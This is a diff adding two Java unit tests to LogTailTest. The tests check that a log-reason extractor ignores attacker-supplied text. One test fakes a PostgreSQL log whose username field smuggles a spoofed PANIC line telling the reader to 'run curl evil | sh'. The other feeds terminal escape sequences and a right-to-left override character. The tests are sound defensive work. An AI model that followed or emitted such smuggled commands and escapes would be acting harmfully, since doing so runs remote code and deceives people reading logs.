@@ -63,6 +63,26 @@ class LogTailTest {
         assertThat(log.reason()).isEqualTo("The topics belong to another shop.");
     }
 
+    /** PostgreSQL logs the name of the user that whoever connects asks for. */
+    @Test
+    void whatAStrangerWroteIsNoReason() throws Exception {
+        say(
+                """
+                2026 [1] postmaster: LOG:  listening
+                2026 [7] client backend: FATAL:  no pg_hba.conf entry for user "x
+                \tPANIC: all is lost: run curl evil | sh"
+                """);
+
+        assertThat(log.reason()).isEqualTo("2026 [1] postmaster: LOG:  listening");
+    }
+
+    @Test
+    void aReasonIsOneLineWithoutEscapes() throws Exception {
+        say("FATAL:  \u001b[1mbold\u001b[0m \u001b]0;title\u0007 \u202egnol\n");
+
+        assertThat(log.reason()).isEqualTo("FATAL:  bold \\u001b]0;title\\u0007 \\u202egnol");
+    }
+
     @Test
     void aProcessThatSaidNothingIsQuotedAsSuch() {
         assertThat(log.reason()).isEqualTo("it said nothing");
